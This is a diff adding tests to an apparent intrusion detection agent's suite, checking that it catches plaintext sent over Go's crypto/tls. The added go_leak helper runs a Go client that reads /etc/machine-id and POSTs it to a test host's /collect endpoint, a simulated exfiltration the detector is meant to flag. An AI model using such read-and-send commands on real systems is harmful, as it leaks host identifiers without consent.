@@ -1,9 +1,12 @@
 # SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
 """TLS: plaintext handed to OpenSSL is matched before encryption; ciphertext raises nothing."""
+import json
+import os
 import subprocess
 import time
 
-from idslib import Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py
+from idslib import (AGENT, Agent, POLICY_MACHINE_ID, build_go_client, expect, expect_eq, machine_id,
+                    run_py, sh)
 
 
 def curl_tls(host, header):
@@ -94,3 +97,87 @@ def test_curl_http2_header_is_confirmed_after_hpack_decoding(host):
     expect_eq("hpack", a["evidence"]["encoding"], "evidence.encoding")
     expect_eq({"proto": "tcp", "addr": host.addr, "port": 8444},
               {k: a["destination"][k] for k in ("proto", "addr", "port")}, "destination")
+
+
+def go_leak(host, delay_ms=None, stripped=False):
+    """The Go client: reads /etc/machine-id, POSTs it with net/http (crypto/tls) to the test host."""
+    exe = build_go_client("gotls_leak", stripped)
+    cmd = [exe, "/etc/machine-id", "https://%s:8443/collect" % host.addr]
+    if delay_ms is not None:
+        cmd.append(str(delay_ms))
+    p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
+    expect_eq(0, p.returncode, "the Go client's exit status (stderr %r)" % p.stderr)
+    return exe
+
+
+def go_status(agent, sock):
+    return json.loads(sh([AGENT, "status", "--socket", sock, "--json"], timeout=10).stdout)
+
+
+def expect_one_go_alert(agent, host, comm="gotls_leak"):
+    a = agent.wait_alert(process__comm=comm)
+    time.sleep(1)  # a second alert (for the ciphertext) would have come by now
+    alerts = agent.alerts(process__comm=comm)
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq("tls", a["evidence"]["channel"], "evidence.channel")
+    expect_eq("go_tls_write", a["evidence"]["call"], "evidence.call")
+    expect_eq({"proto": "tcp", "addr": host.addr, "port": 8443},
+              {k: a["destination"][k] for k in ("proto", "addr", "port")}, "destination")
+    expect_eq(1, len(alerts), "alerts for the Go client (its ciphertext raises none)")
+    expect(machine_id() in host.received(), "the test host to have decrypted the body")
+
+
+def go_entry(status, exe):
+    entries = [l for l in status["tls_libraries"] if l.get("kind") == "go"]
+    expect(any(l["path"] == exe for l in entries),
+           "the Go client among tls_libraries: %r" % entries)
+    return [l for l in entries if l["path"] == exe][0]
+
+
+def test_go_crypto_tls_post_is_confirmed_with_its_destination(host):
+    """Go links crypto/tls into the executable: the probe at the entry of (*Conn).Write takes the
+    plaintext, the TLS record the program writes next gives it its destination."""
+    exe = build_go_client("gotls_leak")  # built before the agent: the build reads no identifier
+    sock = os.path.join(os.path.dirname(exe), "gotls-1.sock")
+    with Agent(policy_text=POLICY_MACHINE_ID, args=["--socket", sock]) as agent:
+        expect("handle_go_tls_write" in agent.records()[0]["probes"]["attached"],
+               "the Go TLS program loaded: %r" % agent.records()[0]["probes"]["skipped"])
+        go_leak(host, delay_ms=500)
+        expect_one_go_alert(agent, host)
+        e = go_entry(go_status(agent, sock), exe)
+    expect_eq(True, e["attached"], "the Go client probed (%r)" % e)
+    expect(e.get("version", "").startswith("go1."), "its Go version: %r" % e)
+
+
+def test_go_client_sending_at_once_is_probed_while_its_open_is_held(host):
+    """With the syscall hooks away, the fanotify gate holds the Go client in its open of the
+    machine-id: its executable is probed then, before it can read and send (it does at once)."""
+    exe = build_go_client("gotls_leak")
+    sock = os.path.join(os.path.dirname(exe), "gotls-2.sock")
+    args = ["--socket", sock, "--stats-interval", "1"]
+    with Agent(policy_text=POLICY_MACHINE_ID, args=args) as agent:
+        agent.wait_for(lambda r: r["type"] == "stats" and not r["hooks"]["syscalls_attached"] and
+                       not r["hooks"]["detaching"], timeout=15, what="the syscall hooks detached")
+        go_leak(host)
+        expect_one_go_alert(agent, host)
+        st = go_status(agent, sock)
+        e = go_entry(st, exe)
+    expect_eq(True, e["attached"], "the Go client probed (%r)" % e)
+    expect("last_opener_us" in st["hooks"], "the gate's look at the opener timed: %r" % st["hooks"])
+    print("go probe: look-up and attach %d us (ELF look-up %d us); the opener waited %d us for it "
+          "(the syscall hooks' attach: %d us)" % (e["attach_us"], e["lookup_us"],
+                                                   st["hooks"]["last_opener_us"],
+                                                   st["hooks"]["last_attach_us"]))
+
+
+def test_stripped_go_executable_is_probed_by_its_function_table(host):
+    """Stripped of .symtab (-ldflags=-s -w), a Go executable still carries the function table its
+    runtime needs (.gopclntab): (*Conn).Write is found there."""
+    exe = build_go_client("gotls_leak", stripped=True)
+    expect(" .symtab " not in sh(["readelf", "-SW", exe]).stdout, "the client stripped of .symtab")
+    sock = os.path.join(os.path.dirname(exe), "gotls-3.sock")
+    with Agent(policy_text=POLICY_MACHINE_ID, args=["--socket", sock]) as agent:
+        go_leak(host, delay_ms=500, stripped=True)
+        expect_one_go_alert(agent, host, comm="gotls_leak_s")
+        e = go_entry(go_status(agent, sock), exe)
+    expect_eq(True, e["attached"], "the stripped Go client probed (%r)" % e)
